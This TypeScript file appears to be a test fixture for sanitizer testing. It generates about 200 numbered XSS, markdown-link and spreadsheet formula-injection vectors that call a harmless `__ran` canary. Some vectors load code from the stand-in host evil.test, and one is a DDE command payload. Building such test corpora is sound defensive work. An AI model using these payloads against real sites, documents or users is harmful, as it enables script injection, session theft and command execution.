/** Two hundred ways to run a script from a text, each with its number; every one calls `__ran(number)` if it runs. */

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart']
const RUN = '__ran(N)'

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.test/N.js></script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=http://evil.test/N.png>`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href=javascript:${RUN}><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src=//evil.test/N>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.test/>`,
  `<link rel=stylesheet href=//evil.test/N.css>`,
  `<style>@import '//evil.test/N.css'</style>`,
  `<div style="background:url(//evil.test/N)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
]

const LINKS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\nscript:${RUN})`,
  `[x]( javascript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+)`,
  `[x](https://shop.example"onmouseover="${RUN})`,
  `[x](https://shop.example 'onmouseover=${RUN}')`,
  `[x](<javascript:${RUN}>)`,
  `[x][1]\n\n[1]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![x](http://evil.test/N.png)`,
  `![x](x"onerror="${RUN})`,
  `![x](javascript:${RUN})`,
  `**<img src=x onerror=${RUN}>**`,
  `- <img src=x onerror=${RUN}>`,
  `> <svg onload=${RUN}>`,
  `\`\`\`\n<script>${RUN}</script>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| c | d |`,
  `# <img src=x onerror=${RUN}>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `https://shop.example/"><script>${RUN}</script>`,
  `https://shop.example/#<img src=x onerror=${RUN}>`,
  `//evil.test/N`,
  `[<img src=x onerror=${RUN}>](https://shop.example)`,
]

const ELEMENTS = [
  'div',
  'p',
  'img',
  'svg',
  'input',
  'video',
  'a',
  'details',
  'style',
  'iframe',
  'object',
  'x-custom',
  'body',
  'form',
]
const EVERY_HANDLER = ELEMENTS.flatMap(element =>
  HANDLERS.map(handler => `<${element} ${handler}=${RUN} src=x tabindex=1 autofocus>`),
)

/** Cells that a spreadsheet would run. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.test/N")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  `=cmd|' /C calc'!A0`,
]

export const VECTORS: readonly string[] = [
  ...TAGS,
  ...LINKS,
  ...EVERY_HANDLER.slice(0, 200 - TAGS.length - LINKS.length - FORMULAS.length),
  ...FORMULAS,
].map((vector, number) => vector.replaceAll('N', String(number)))

/** All of them in texts of at most so many characters; those that are longer alone are cut. */
export function packed(most: number): string[] {
  const packs: string[] = []
  for (const vector of VECTORS) {
    const last = packs.at(-1)
    const joined = `${last} ${vector}`
    if (last !== undefined && joined.length <= Math.min(most, 1500)) packs[packs.length - 1] = joined
    else packs.push(vector.slice(0, most))
  }
  return packs
}
